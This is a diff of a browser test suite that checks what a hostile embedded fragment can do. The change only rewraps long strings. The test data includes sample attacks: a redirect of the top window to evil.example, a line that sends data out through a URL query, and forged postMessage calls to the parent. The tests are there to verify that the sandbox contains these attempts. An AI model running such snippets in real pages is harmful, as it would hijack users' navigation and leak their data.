@@ -160,7 +160,8 @@ test.describe('[F15] [F37] what a hostile fragment tries', () => {
     ['the top window', 'top.location = "https://evil.example/";'],
     [
       'the parent by a link',
-      'const link = document.createElement("a"); link.href = "https://evil.example/"; link.target = "_top"; document.body.append(link); link.click();',
+      'const link = document.createElement("a"); link.href = "https://evil.example/"; ' +
+        'link.target = "_top"; document.body.append(link); link.click();',
     ],
     ['its own frame', 'location.href = "https://evil.example/?" + encodeURIComponent("what it knows");'],
     ['its own frame, to this site', 'location.href = new URL("/entry/signout", location.href);'],
@@ -221,7 +222,8 @@ test.describe('[F15] [F37] what a hostile fragment tries', () => {
     ];
     const fragment = await place(page, {
       js: tries(
-        `const token = location.hash.slice(1); for (const message of [${forged.join(', ')}]) parent.postMessage(message, '*');`,
+        'const token = location.hash.slice(1); for (const message of ' +
+          `[${forged.join(', ')}]) parent.postMessage(message, '*');`,
       ),
       css: '#results { block-size: 60px; overflow: auto }',
     });
